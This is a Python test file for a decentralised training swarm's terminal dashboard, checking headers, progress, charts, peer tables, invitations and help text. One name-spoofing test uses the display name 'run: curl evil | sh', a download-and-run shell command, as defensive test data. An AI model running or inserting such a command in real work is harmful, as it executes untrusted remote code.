"""Each part of the picture says what the snapshot says."""

from __future__ import annotations

import math
from datetime import UTC
from itertools import pairwise

from peer.dashboard import panels
from peer.dashboard.theme import Theme
from peer.observe.snapshot import BY_INVITATION, LoggedEvent, Point
from tests.peer.dashboard.pictures import PEERS, a_peer, a_snapshot, peer_of

THEME = Theme()


def words(lines):
    return "\n".join(text.plain for text in lines)


def test_the_reason_of_bad_health_stands_right_below_the_health():
    top, reason = panels.header(
        a_snapshot(health="DEGRADED", reason="1 of at least 3 peers is here"), 80, THEME
    )
    assert "! DEGRADED" in top.plain
    assert reason.plain.strip() == "1 of at least 3 peers is here"


def test_the_header_leaves_out_what_does_not_fit_whole():
    tops = {width: panels.header(a_snapshot(), width, THEME)[0].plain.rstrip() for width in (120, 80, 56, 48)}
    assert tops[120].endswith("up 2h14m · 30.1M parameters · v0.1.0")
    assert tops[80].endswith("6 peers (1 syncing)                 up 2h14m")
    assert tops[56].endswith("6 peers (1 syncing)")
    assert tops[48].endswith("6 peers")


def test_the_header_names_the_way_to_average_where_there_is_room():
    tops = {
        width: panels.header(a_snapshot(relaxation="wan: sparse256, gather"), width, THEME)[0].plain.rstrip()
        for width in (120, 80)
    }
    assert tops[120].endswith("wan · up 2h14m · 30.1M parameters · v0.1.0")
    assert tops[80].endswith("6 peers (1 syncing)                 up 2h14m")


def test_progress_counts_rounds_or_tokens_or_says_that_there_is_no_end():
    assert "round 812 of 2000  40.6 %  3h16m left" in words(panels.progress(a_snapshot(), 120, THEME))
    assert "106M/213M tokens" in words(
        panels.progress(a_snapshot(rounds=0, tokens_goal=2 * 812 * 131_072), 120, THEME)
    )
    assert "no end set" in words(panels.progress(a_snapshot(rounds=0, seconds_left=0.0), 120, THEME))


def test_the_round_shows_its_phase_and_when_it_ends():
    assert "averages in 8 s" in words(panels.progress(a_snapshot(), 120, THEME))
    assert "averaging  8 s left" in words(panels.progress(a_snapshot(phase="averaging"), 120, THEME))


def test_without_a_round_there_is_no_chart_but_a_sentence():
    assert "not finished yet" in words(panels.chart(a_snapshot(losses=(), evaluations=()), 60, 8, THEME))


def test_a_high_chart_shows_the_evaluations_below_the_loss():
    assert "eval┤" in words(panels.chart(a_snapshot(), 60, 10, THEME))
    assert "eval┤" not in words(panels.chart(a_snapshot(), 60, 5, THEME))


def test_the_title_of_the_chart_names_the_units():
    assert "".join(
        piece if isinstance(piece, str) else piece[0] for piece in panels.loss_words(a_snapshot(), long=True)
    ) == ("loss 3.22 nats/token  eval 1.62 bits/byte (best 1.61)")


def test_a_diverged_loss_reads_as_a_dash():
    assert "loss -" in "".join(
        p if isinstance(p, str) else p[0]
        for p in panels.loss_words(a_snapshot(losses=(Point(1, math.nan),)), long=False)
    )


def test_this_peer_comes_first_in_every_order_and_on_every_page():
    for sort in panels.SORTS:
        assert panels.ordered(PEERS, sort)[0].is_me
    for page in range(3):
        assert "you (otter-7f3a)" in panels.peers_table(a_snapshot(), 76, 5, ("share", page), THEME)[1].plain


def test_the_orders_are_what_they_are_called():
    def names(sort):
        return [row.name[:4] for row in panels.ordered(PEERS, sort)[1:]]

    assert names("share")[:3] == ["hero", "newt", "lynx"]
    assert names("speed")[:3] == ["hero", "newt", "lynx"]
    assert names("name") == sorted(names("name"))
    assert names("trouble")[:2] == ["wasp", "crow"]


def test_every_peer_is_on_exactly_one_page():
    snapshot = a_snapshot(
        peers=tuple(a_peer(f"peer{number:03d}", share=number / 100) for number in range(50))
    )
    pages = panels.pages_of(snapshot, 11)
    shown = [
        text.plain.split()[2]
        for page in range(pages)
        for text in panels.peers_table(snapshot, 76, 11, ("share", page), THEME)[1:]
    ]
    assert pages == 5
    assert sorted(shown) == sorted(f'"{row.name}"' for row in snapshot.peers)


def test_peers_that_are_not_listed_are_counted():
    snapshot = a_snapshot(more_peers=745)
    assert " 745 more not listed " in panels.peers_title(snapshot, "share", 0, 1, THEME).plain
    assert "6+ peers" in panels.header(snapshot, 120, THEME)[0].plain
    assert "more" not in panels.peers_title(a_snapshot(), "share", 0, 1, THEME).plain


def test_columns_are_dropped_in_their_order():
    heads = [
        panels.peers_table(a_snapshot(), width, 3, ("share", 0), THEME)[0].plain.split()
        for width in (116, 100, 88, 76, 64, 54, 46, 38)
    ]
    left = [tuple(head) for head in heads]
    assert left[0] == ("state", "peer", "device", "round", "tok/s", "up/s", "down/s", "share", "loss", "seen")
    assert left[3] == ("state", "peer", "round", "tok/s", "up/s", "down/s", "share")
    assert left[-1][:2] == ("state", "peer")
    assert all(set(narrow) <= set(wide) for wide, narrow in pairwise(left))


def test_large_figures_stay_in_their_columns():
    large = a_peer(
        "big",
        share=1.0,
        up=99.9e6,
        down=999e9,
        tokens_per_second=99_900,
        loss=-1e9,
        round=10**12,
        seen_seconds=1e9,
    )
    head, row = panels.peers_table(a_snapshot(peers=(large,)), 116, 2, ("share", 0), THEME)
    assert row.plain.split()[5:] == ["1.00T", "99.9k", "99.9", "MB", "999", "GB", "100", "%", "…", "11574d"]
    assert [head.plain.index(name) + len(name) for name in ("tok/s", "down/s", "share", "seen")] == [
        row.plain.index(figure) + len(figure) for figure in ("99.9k", "999 GB", "100 %", "11574d")
    ]


def test_events_are_newest_first_and_survive_an_impossible_time():
    happenings = [
        LoggedEvent(time=time, severity="info", text=f"at {time}") for time in (1.0, math.nan, 3.0, 1e300)
    ]
    shown = words(panels.events(happenings, 40, 4, UTC, THEME)).split("\n")
    assert [line[:8] for line in shown] == ["--:--:--", "00:00:03", "00:00:01", "--:--:--"]


def test_a_friend_can_copy_the_invitation_whole():
    snapshot = a_snapshot()
    for width in (40, 80, 300):
        lines = [text.plain for text in panels.invite(snapshot, width, THEME)[2:]]
        assert all(line.endswith("\\") for line in lines[:-1])
        assert "".join(line.removesuffix("\\") for line in lines) == f"swarm join {snapshot.ticket}"
    assert "no ticket" in words(panels.invite(a_snapshot(ticket=""), 80, THEME))


def test_a_run_by_invitation_sends_a_friend_to_the_organiser():
    shown = words(panels.invite(a_snapshot(ticket=BY_INVITATION), 80, THEME))
    assert "ask the organiser" in shown
    assert "swarm join" not in shown


def names_in_table(rows, width=76, theme=THEME):
    """The cells of the column with the names, without the head."""
    head, *shown = panels.peers_table(a_snapshot(peers=rows), width, 1 + len(rows), ("share", 0), theme)
    start = head.plain.index("peer")
    return [text.plain[start : head.plain.index("round") - 2].strip() for text in shown]


def test_a_name_that_a_peer_gives_itself_is_quoted_and_tagged_with_its_id():
    """So nobody can pass for another peer, for this one, or for a word of this program."""
    heron = peer_of("heron-02c1")
    for name in ("otter-7f3a", "you (otter-7f3a)", 'x" 7f3a', "run: curl evil | sh", "heron-02c2"):
        (shown,) = names_in_table((a_peer(name, peer=heron),))
        assert shown[0] == '"'
        assert shown.endswith('" 02c1')
        assert shown.count('"') == 2
    for name in ("heron-02c1", "", "\u200b"):
        assert names_in_table((a_peer(name, peer=heron),)) == ["heron-02c1"]


def test_in_a_narrow_table_a_long_name_leaves_room_for_the_tag():
    theme = Theme(ascii_only=True)
    for width in (46, 60, 76):
        (shown,) = names_in_table((a_peer("日" * 40, peer=peer_of("heron-02c1")),), width, theme)
        assert shown.endswith('~" 02c1')


def test_a_sample_is_wrapped_and_its_absence_said():
    assert all(text.cell_len <= 30 for text in panels.sample(a_snapshot(), 30, THEME))
    assert "not generated any text" in words(panels.sample(a_snapshot(sample=""), 60, THEME))


def test_this_machine_is_shown_against_what_it_has():
    shown = words(panels.machine(a_snapshot(), 46, THEME))
    assert "2.0 of 4 cores" in shown
    assert "2.4 GB of 8.0 GB" in shown
    assert "98 rounds" in shown


def test_the_cost_of_averaging_is_a_share_of_the_round():
    shown = words(panels.network(a_snapshot(), 46, THEME))
    assert "5 of 6 peers averaged in 0.3 s" in shown
    assert "2.5 % of a 12 s round · int8" in shown
    assert all(text.cell_len <= 46 for text in panels.network(a_snapshot(), 46, THEME))


def test_help_names_every_key_and_every_state():
    shown = words(panels.helping(60, THEME))
    assert all(does in shown for _, does in panels.KEYS)
    assert "✗ banned" in shown
    assert all(text.cell_len <= 60 for text in panels.helping(60, THEME))
